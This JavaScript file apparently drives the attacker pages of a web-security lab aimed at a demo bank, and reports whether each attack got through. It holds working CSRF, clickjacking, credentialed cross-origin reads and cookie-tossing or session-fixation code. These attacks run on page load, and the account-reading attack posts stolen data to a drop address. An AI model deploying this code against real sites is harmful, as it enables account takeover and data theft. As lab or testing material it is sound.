// What the attacker's pages do, each by itself as soon as it is open, unless the address says ?auto=0.
const aim = JSON.parse(document.getElementById("aim").textContent);
const by = (id) => document.getElementById(id);

function say(text, tone, status = "", reason = "") {
  const line = by("said");
  Object.assign(line.dataset, { tone, status, reason });
  line.textContent = text;
  document.body.dataset.ready = aim.kind;
}

const unread = () =>
  say("The request was sent. The browser did not let this page read the answer (no CORS grant for this origin).", "plain", "", "not-readable");

async function told(answer) {
  const text = await answer.text();
  let reason = "";
  try {
    reason = JSON.parse(text).reason ?? "";
  } catch {
    // An answer that is no JSON has no reason.
  }
  return { text, reason };
}

// The attacker's own cookie, for the bank's host and all below it.
function setCookie(value, path) {
  const secure = aim.cookie.name.startsWith("__") ? "; Secure" : "";
  const line = `${aim.cookie.name}=${value}; Domain=${aim.cookie.domain}; Path=${path}${secure}`;
  document.cookie = line;
  by("line").textContent = line;
}

// Whether the browser has kept it: a page below the cookie's path sees it, where the bank's host is above this one.
function kept(path) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.hidden = true;
    frame.onload = () => {
      resolve(frame.contentDocument.cookie.split("; ").some((pair) => pair.startsWith(`${aim.cookie.name}=`)));
      frame.remove();
    };
    frame.src = path;
    document.body.append(frame);
  });
}

async function reportCookie(path) {
  const is = await kept(path);
  const name = aim.cookie.name;
  if (is) say(`The browser keeps a cookie ${name} that the bank did not set.`, "bad", "", "kept");
  else say(`The browser did not keep the cookie ${name}, or does not show it to this host.`, "good", "", "not-kept");
}

const attacks = {
  "form-post": () => by("attack").submit(),
  "log-in": () => by("attack").submit(),
  link: () => by("attack").click(),

  image() {
    const image = by("attack");
    // Whatever is no picture is an error to an image, a transfer that went through included.
    image.onload = image.onerror = () =>
      say("The image’s address was asked for. Of the answer this page sees only that it is no picture.", "plain", "", "not-readable");
    image.src = aim.url;
  },

  async "fetch-post"() {
    try {
      const answer = await fetch(aim.url, { method: "POST", credentials: "include", body: new URLSearchParams(aim.fields) });
      const { text, reason } = await told(answer);
      say(`The bank let this page read its answer: ${answer.status} ${text}`, answer.ok ? "bad" : "plain", answer.status, reason);
    } catch {
      unread();
    }
  },

  async "read-account"() {
    // What travels in a header the page must send itself, so the browser asks the bank first whether it may.
    const headers = aim.in_header ? { authorization: "Bearer not-known-here" } : {};
    try {
      const answer = await fetch(aim.url, { credentials: "include", headers });
      const { text, reason } = await told(answer);
      say(`The bank let this page read its answer: ${answer.status} ${text}`, answer.ok ? "bad" : "plain", answer.status, reason);
      if (answer.ok) await fetch(aim.drop, { method: "POST", mode: "no-cors", body: JSON.stringify({ by: "read-account", account: text }) });
    } catch {
      unread();
    }
  },

  frame() {
    const frame = by("attack");
    // A frame that the browser blocks has loaded too: with a page of the browser's own in it.
    frame.onload = () => say("The bank’s page, or the browser’s word that it may not be framed, is in the frame. Script here can’t tell which; you can.", "plain", "", "not-readable");
    frame.src = aim.url;
  },

  async "plant-id"() {
    setCookie(aim.cookie.value, "/");
    await reportCookie("/here");
  },

  async "toss-cookie"() {
    // The attacker's own credential comes in the fragment, which no server ever sees, or is pasted.
    const value = by("credential").value || decodeURIComponent(location.hash.slice(1));
    if (!/^[\w.~-]+$/.test(value)) {
      say("Paste a credential of the attacker’s own first: the value of the cookie after logging in as the attacker.", "plain", "", "no-credential");
      return;
    }
    by("credential").value = value;
    // A longer path goes first, and servers read the first cookie of a name.
    setCookie(value, "/api");
    await reportCookie("/api/here");
  },
};

const run = () => attacks[aim.kind]();
by("go").addEventListener("click", (event) => {
  event.preventDefault();
  run();
});
by("see-through")?.addEventListener("input", (event) => {
  by("attack").style.opacity = event.target.value;
});
if (aim.auto) run();
else document.body.dataset.ready = aim.kind;
